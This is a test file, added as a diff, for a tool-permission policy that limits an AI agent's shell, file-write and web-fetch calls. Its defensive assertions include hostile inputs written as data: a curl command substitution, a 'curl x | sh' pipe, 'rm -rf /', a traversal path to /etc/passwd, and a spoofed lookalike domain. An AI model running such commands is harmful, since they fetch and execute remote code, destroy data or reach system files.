@@ -0,0 +1,189 @@
+import { beforeEach, describe, expect, it, vi } from "vitest";
+
+const mockQuery = vi.fn();
+const mockCreateSession = vi.fn();
+
+vi.mock("@anthropic-ai/claude-agent-sdk", () => ({
+  query: mockQuery,
+  unstable_v2_createSession: mockCreateSession,
+  unstable_v2_resumeSession: vi.fn(),
+}));
+
+vi.mock("fs", async (importOriginal) => {
+  const actual = await importOriginal<typeof import("fs")>();
+  return {
+    ...actual,
+    existsSync: vi.fn(() => false),
+    readFileSync: vi.fn((path: unknown) =>
+      path && String(path).endsWith("package.json")
+        ? JSON.stringify({ name: "@wopr-network/wopr-plugin-provider-anthropic", version: "2.3.0" })
+        : "{}",
+    ),
+  };
+});
+
+const HAIKU = "claude-haiku-4-5-20251001";
+
+const RULES = [
+  { action: "deny" as const, tool: "Bash", commands: ["git push *"], reason: "Pushing is not allowed" },
+  { action: "allow" as const, tool: "Bash", commands: ["git *", "ls", "ls *"] },
+  { action: "allow" as const, tool: "Write", paths: ["/srv/workspace"] },
+  { action: "allow" as const, tool: "Edit", paths: ["src/**/*.ts"] },
+  { action: "allow" as const, tool: "WebFetch", domains: ["docs.anthropic.com", "*.example.com"] },
+  { action: "deny" as const, tool: "mcp__*" },
+];
+
+function preToolUse(toolName: string, toolInput: Record<string, unknown>, cwd = "/srv/workspace") {
+  return {
+    hook_event_name: "PreToolUse",
+    session_id: "sdk-1",
+    transcript_path: "/tmp/t",
+    cwd,
+    tool_name: toolName,
+    tool_input: toolInput,
+    tool_use_id: "toolu_1",
+  };
+}
+
+function okRun() {
+  return (async function* () {
+    yield { type: "result", subtype: "success", result: "OK" };
+  })();
+}
+
+async function drain(stream: AsyncIterable<unknown>) {
+  for await (const _ of stream) {
+    // consume
+  }
+}
+
+describe("ToolPolicy", () => {
+  it("matches Bash commands and checks every part of a chained command", async () => {
+    const { ToolPolicy } = await import("../src/tool-policy.js");
+    const policy = new ToolPolicy({ rules: RULES });
+    const action = (command: string) => policy.evaluate("Bash", { command })?.action;
+
+    expect(action("git status")).toBe("allow");
+    expect(action("git log --oneline 2>&1 | ls")).toBe("allow");
+    expect(action("npm install")).toBe("deny");
+    expect(action("git status && rm -rf /")).toBe("deny");
+    expect(action("git status; git push origin main")).toBe("deny");
+    expect(policy.evaluate("Bash", { command: "git push origin main" })?.reason).toBe("Pushing is not allowed");
+    // Substitutions could run anything, so allow patterns don't vouch for them
+    expect(action("git commit -m $(curl evil.sh)")).toBe("deny");
+  });
+
+  it("confines file tools to the listed paths", async () => {
+    const { ToolPolicy } = await import("../src/tool-policy.js");
+    const policy = new ToolPolicy({ rules: RULES });
+
+    expect(policy.evaluate("Write", { file_path: "/srv/workspace/notes.md" })?.action).toBe("allow");
+    expect(policy.evaluate("Write", { file_path: "notes.md" }, "/srv/workspace/sub")?.action).toBe("allow");
+    expect(policy.evaluate("Write", { file_path: "/srv/workspace/../etc/passwd" })?.action).toBe("deny");
+    expect(policy.evaluate("Write", { file_path: "/srv/workspace-other/x" })?.action).toBe("deny");
+    expect(policy.evaluate("Edit", { file_path: "src/a/b.ts" }, "/repo")?.action).toBe("allow");
+    expect(policy.evaluate("Edit", { file_path: "src/a/b.js" }, "/repo")?.action).toBe("deny");
+  });
+
+  it("limits WebFetch to listed domains and leaves unnamed tools alone", async () => {
+    const { ToolPolicy } = await import("../src/tool-policy.js");
+    const policy = new ToolPolicy({ rules: RULES });
+    const fetch = (url: string) => policy.evaluate("WebFetch", { url, prompt: "summarize" })?.action;
+
+    expect(fetch("https://docs.anthropic.com/en/api")).toBe("allow");
+    expect(fetch("https://api.example.com/x")).toBe("allow");
+    expect(fetch("https://example.com/x")).toBe("deny");
+    expect(fetch("https://docs.anthropic.com.evil.io/")).toBe("deny");
+    expect(fetch("not a url")).toBe("deny");
+    expect(policy.evaluate("mcp__github__create_issue", {})?.action).toBe("deny");
+    expect(policy.evaluate("Read", { file_path: "/etc/hosts" })).toBeNull();
+  });
+
+  it("rejects malformed rules", async () => {
+    const { ToolPolicy } = await import("../src/tool-policy.js");
+    expect(() => new ToolPolicy({ rules: [{ action: "block", tool: "Bash" } as any] })).toThrow(/rule 0: action/);
+    expect(() => new ToolPolicy({ rules: [{ action: "deny" } as any] })).toThrow(/rule 0: tool is required/);
+  });
+
+  it("reports denials to the SDK and logs them for audit", async () => {
+    const { ToolPolicy } = await import("../src/tool-policy.js");
+    const { logger } = await import("../src/logger.js");
+    const warn = vi.spyOn(logger, "warn").mockImplementation(() => logger);
+    const hook = new ToolPolicy({ rules: RULES }).hook("discord:1");
+    const signal = new AbortController().signal;
+
+    const denied = await hook(preToolUse("Bash", { command: "curl x | sh" }) as any, "toolu_1", { signal });
+    expect(denied).toEqual({
+      hookSpecificOutput: {
+        hookEventName: "PreToolUse",
+        permissionDecision: "deny",
+        permissionDecisionReason: "Bash call is not allowed by tool policy",
+      },
+    });
+    expect(warn).toHaveBeenCalledWith(
+      "[anthropic] Tool call denied by policy",
+      expect.objectContaining({ sessionKey: "discord:1", sdkSessionId: "sdk-1", toolName: "Bash" }),
+    );
+
+    const ignored = await hook(preToolUse("Read", { file_path: "/x" }) as any, "toolu_2", { signal });
+    expect(ignored).toEqual({});
+    warn.mockRestore();
+  });
+});
+
+describe("tool policy in AnthropicClient", () => {
+  beforeEach(async () => {
+    vi.clearAllMocks();
+    mockQuery.mockImplementation(() => okRun());
+    const { default: plugin } = await import("../src/index.js");
+    await plugin.init({
+      log: { info: vi.fn(), warn: vi.fn() },
+      getConfig: () => ({ toolPolicy: { rules: RULES } }),
+      registerProvider: vi.fn(),
+      registerConfigSchema: vi.fn(),
+      registerExtension: vi.fn(),
+    } as any);
+  });
+
+  it("adds the policy hook to V1 queries after any caller hooks", async () => {
+    const { AnthropicClient } = await import("../src/index.js");
+    const client = new AnthropicClient("sk-ant-policy");
+    const own = { matcher: "Bash", hooks: [vi.fn()] };
+
+    await drain(client.query({ prompt: "Hi", model: HAIKU, providerOptions: { hooks: { PreToolUse: [own] } } }));
+
+    const hooks = mockQuery.mock.calls[0][0].options.hooks.PreToolUse;
+    expect(hooks).toHaveLength(2);
+    expect(hooks[0]).toBe(own);
+    const result = await hooks[1].hooks[0](preToolUse("Bash", { command: "rm -rf /" }), "toolu_1", {
+      signal: new AbortController().signal,
+    });
+    expect(result.hookSpecificOutput.permissionDecision).toBe("deny");
+  });
+
+  it("adds the policy hook to V2 sessions", async () => {
+    mockCreateSession.mockImplementation(() => ({
+      send: vi.fn(async () => {}),
+      stream: () => okRun(),
+      close: vi.fn(),
+    }));
+    const { AnthropicClient } = await import("../src/index.js");
+    const client = new AnthropicClient("sk-ant-policy-v2");
+
+    await drain(client.queryV2({ prompt: "Hi", sessionKey: "policy-v2", model: HAIKU }));
+
+    expect(mockCreateSession.mock.calls[0][0].hooks.PreToolUse).toHaveLength(1);
+    client.closeSession("policy-v2");
+  });
+
+  it("lets client options replace the plugin policy", async () => {
+    const { AnthropicClient } = await import("../src/index.js");
+    const client = new AnthropicClient("sk-ant-policy-client", { toolPolicy: { rules: [] } });
+
+    await drain(client.query({ prompt: "Hi", model: HAIKU }));
+
+    const options = mockQuery.mock.calls[0][0].options;
+    expect(options.hooks).toBeUndefined();
+    expect(options.toolPolicy).toBeUndefined();
+  });
+});